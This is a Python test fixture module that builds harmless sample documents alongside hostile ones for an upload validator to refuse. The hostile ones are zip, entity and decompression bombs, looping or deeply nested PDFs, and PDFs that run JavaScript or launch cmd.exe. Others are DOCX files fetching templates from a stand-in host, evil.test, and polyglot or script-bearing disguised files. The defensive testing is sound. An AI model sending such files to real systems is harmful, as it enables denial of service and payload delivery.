"""Files as people send them by mistake or in bad faith, made anew each time; and sound ones beside them."""

import io
import zlib
from zipfile import ZIP_DEFLATED, ZipFile

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
ODT = "application/vnd.oasis.opendocument.text"
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def zipped(members):
    """The bytes of a zip file of {name: text or bytes}."""
    content = io.BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return content.getvalue()


# --- Sound ones -------------------------------------------------------------------------------------------------------


def pdf(*pages, catalog="", objects=(), head=b"%PDF-1.4\n", packed=b""):
    """A PDF with a line of text a page. `catalog` and `objects` are put into it, `packed` is a stream of objects."""
    count = len(pages)
    kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(count))
    made = [
        f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog} >>\nendobj",
        f"2 0 obj\n<< /Type /Pages /Kids [{kids}] /Count {count} >>\nendobj",
        "3 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>\nendobj",
    ]
    for number, text in enumerate(pages):
        page, stream = 4 + 2 * number, f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET"
        described = f"/MediaBox [0 0 612 792] /Contents {page + 1} 0 R /Resources << /Font << /F1 3 0 R >> >>"
        made += [
            f"{page} 0 obj\n<< /Type /Page /Parent 2 0 R {described} >>\nendobj",
            f"{page + 1} 0 obj\n<< /Length {len(stream)} >>\nstream\n{stream}\nendstream\nendobj",
        ]
    made += objects
    content, places = head, []
    for each in made:
        places.append(len(content))
        content += each.encode("latin-1") + b"\n"
    if packed:
        stream = zlib.compress(packed)
        content += b"99 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
            stream
        )
        content += stream + b"\nendstream\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    tail = (
        f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(places) + 1} /Root 1 0 R >>\n"
    )
    return content + f"{tail}startxref\n{len(content)}\n%%EOF\n".encode()


def docx(*paragraphs, more=None, types=""):
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    members = {
        "[Content_Types].xml": TYPES.format(types),
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
    }
    return zipped(members | (more or {}))


def xlsx(*texts):
    strings = "".join(f"<si><t>{text}</t></si>" for text in texts)
    members = {"xl/workbook.xml": "<workbook/>", "xl/sharedStrings.xml": f'<sst xmlns="{SPREADSHEET}">{strings}</sst>'}
    return zipped({"[Content_Types].xml": TYPES.format("")} | members)


def pptx(*slides):
    members = {"[Content_Types].xml": TYPES.format(""), "ppt/presentation.xml": "<p:presentation xmlns:p='p'/>"}
    for number, text in enumerate(slides, start=1):
        words = f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>"
        members[f"ppt/slides/slide{number}.xml"] = f'<p:sld xmlns:p="p" xmlns:a="{DRAWING}">{words}</p:sld>'
    return zipped(members)


def odt(*paragraphs, manifest=""):
    body = "".join(f"<text:p>{text}</text:p>" for text in paragraphs)
    content = f'<office:document-content xmlns:office="o" xmlns:text="t">{body}</office:document-content>'
    return zipped(
        {"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>"}
    )


def png():
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17)


def jpeg():
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(20)


# --- Hostile ones -----------------------------------------------------------------------------------------------------


def relations(kind, target, mode="External"):
    return (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )


def zip_bomb():
    """A document of a few kilobytes that would unpack to hundreds of megabytes."""
    return docx("One", more={"word/media/image.bin": bytes(64 << 20)})


def entity_bomb():
    """A document whose first words would be a billion laughs."""
    lines = "".join(
        f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' if number else '<!ENTITY l0 "laugh">' for number in range(10)
    )
    text = f'<?xml version="1.0"?><!DOCTYPE w [{lines}]><w:document xmlns:w="{WORD}"><w:t>&l9;</w:t></w:document>'
    return docx(more={"word/document.xml": text})


def late_entity_bomb():
    """The same after so many blanks that nobody sees it who looks at the beginning alone."""
    text = f'<?xml version="1.0"?>{" " * 10_000}<!DOCTYPE w [<!ENTITY a "b">]><w:document xmlns:w="{WORD}"/>'
    return docx(more={"word/document.xml": text})


def endless_pdf():
    """A PDF whose pages lead round in a circle, so that there is no end to counting them."""
    return pdf("One").replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]")


def nested_pdf(depth=3000):
    """A PDF in which arrays stand within arrays, thousands deep."""
    return pdf("One", catalog=f"/Deep {'[' * depth}{']' * depth}")


def many_pages(count=3000):
    return pdf(*[f"Page {number}" for number in range(count)])


def swollen_pdf():
    """A small PDF whose one page unpacks to a gigabyte of operators."""
    block, packer, checksum = b"q " * (1 << 19), zlib.compressobj(9), 1
    # Packed once and written a thousand times, which the format allows: packing a gigabyte takes seconds.
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(1024):
        checksum = zlib.adler32(block, checksum)
    stream = packed[:2] + packed[2:] * 1024 + packer.flush()[:-4] + checksum.to_bytes(4, "big")
    page = pdf("One")
    start, end = page.index(b"5 0 obj"), page.index(b"endobj", page.index(b"5 0 obj"))
    inner = b"5 0 obj\n<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream\n"
    return page[:start] + inner + page[end:]


PDF = pdf("Words")
# {what it is: (bytes, name, what is said of it)}; each is refused.
REFUSED = {
    "nothing": (b"", "empty.pdf", "This file is empty: it has 0 bytes."),
    "HTML called PDF": (b"<html><script>alert(1)</script>", "a.pdf", "This is a web page"),
    "HTML after a mark and blanks": (b"\xef\xbb\xbf \n<!DOCTYPE html>", "a.txt", "This is a web page"),
    "HTML in UTF-16": ("\ufeff<script>alert(1)</script>".encode("utf-16-le"), "a.txt", "This is a web page"),
    "an SVG with a script": (b'<svg xmlns="s"><script>alert(1)</script></svg>', "a.png", "a drawing (SVG)"),
    "text called PDF": (b"Just words", "a.pdf", "This is called “.pdf”, but it is plain text."),
    "a PDF that is a ZIP too": (PDF + zipped({"a.html": "<html>"}), "a.pdf", "a packed file (ZIP) in one"),
    "a picture that is a ZIP too": (png() + zipped({"a.jar": "x"}), "a.png", "a packed file (ZIP) in one"),
    "a GIF that is a script too": (b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)", "a.jpg", "This is a picture (GIF)."),
    "a PDF after other bytes": (b"GET / HTTP/1.1\n" + PDF, "a.pdf", "Something else stands before this PDF"),
    "a program": (b"MZ\x90\0\x03\0\0\0" + bytes(60), "a.pdf", "This is a program."),
    "a packed file": (zipped({"a.txt": "x"}), "a.docx", "This is a packed file (ZIP)"),
    "a zip bomb": (zip_bomb(), "a.docx", "times its size"),
    "a document of before 2007": (OLD_OFFICE + bytes(600), "a.doc", "of an old kind"),
    "a document behind a password": (
        OLD_OFFICE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "protected with a password"
    ),
    "an OpenDocument behind a password": (
        odt("One", manifest="<encryption-data/>"), "a.odt", "protected with a password"
    ),
    "a document with macros": (docx("One", more={"word/vbaProject.bin": b"x"}), "a.docx", "holds macros"),
    "a document with macros by its type": (
        docx("One", types='<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        "a.docm",
        "with macros",
    ),
    "an OpenDocument with macros": (
        zipped({"mimetype": ODT, "content.xml": "<a/>", "Basic/Standard/Module1.xml": "<x/>"}), "a.odt", "holds macros"
    ),
    "a document with controls": (docx("One", more={"word/activeX/activeX1.bin": b"x"}), "a.docx", "holds macros"),
    "an entity bomb": (entity_bomb(), "a.docx", "declares a document type of its own"),
    "a template from elsewhere": (
        docx("One", more={"word/_rels/settings.xml.rels": relations("attachedTemplate", "https://evil.test/a.dotm")}),
        "a.docx",
        "fetches parts from elsewhere when it is opened (attachedTemplate)",
    ),
    "a picture from elsewhere": (
        docx("One", more={"word/_rels/document.xml.rels": relations("image", "https://evil.test/pixel.png")}),
        "a.docx",
        "fetches parts from elsewhere when it is opened (image)",
    ),
    "relations that are broken": (docx(more={"word/_rels/a.rels": "<Relation"}), "a.docx", "is damaged"),
    "a cut document": (docx("One")[:-30], "a.docx", "is damaged"),
    "a PDF with a script": (
        pdf("One", catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "a.pdf", "This PDF holds scripts"
    ),
    "a PDF with a script under another name": (
        pdf("One", catalog="/OpenAction << /S /J#61vaScript /JS (x) >>"), "a.pdf", "This PDF holds scripts"
    ),
    "a PDF with a packed script": (
        pdf("One", packed=b"7 0 << /S /JavaScript /JS (x) >>"), "a.pdf", "This PDF holds scripts"
    ),
    "a PDF that starts a program": (
        pdf("One", catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), "a.pdf", "This PDF starts other programs"
    ),
    "a PDF that carries a file": (
        pdf("One", catalog="/Names << /EmbeddedFiles 9 0 R >>"), "a.pdf", "This PDF carries other files"
    ),
    "a PDF that carries a file without saying so": (
        pdf("One", objects=["9 0 obj\n<< /F (a.exe) /EF << /F 10 0 R >> >>\nendobj"]), "a.pdf", "carries other files"
    ),
    "a PDF with a script beside a film": (
        pdf("One", catalog="/OpenAction << /S /Rendition /OP 0 /JS (x) >>"), "a.pdf", "holds films or animations"
    ),
    "a PDF that is a form of scripts": (pdf("One", catalog="/AcroForm << /XFA 9 0 R >>"), "a.pdf", "(XFA)"),
    "a PDF with more packed than anybody counts": (
        b"%PDF-1.4\n" + b"/ObjStm stream\n" * 20_001, "a.pdf", "packs far more"
    ),
    "bytes that nothing tells": (bytes(range(256)), "a.txt", "It cannot be told what this file is."),
}  # fmt: skip
# What is let in, broken or heavy as it is: it is kept, does no harm, and its reading says what came of it.
KEPT = {
    "a broken PDF": (b"%PDF-1.7\nnothing of the kind", "a.pdf", "unreadable"),
    "a PDF cut in half": (PDF[: len(PDF) // 2], "a.pdf", "unreadable"),
    "a PDF without an end of its pages": (endless_pdf(), "a.pdf", "unreadable"),
    "a document that is broken inside": (docx(more={"word/document.xml": "<w:document"}), "a.docx", "unreadable"),
    "an entity bomb far down": (late_entity_bomb(), "a.docx", "unreadable"),
    "a picture": (png(), "a.png", "nothing"),
}
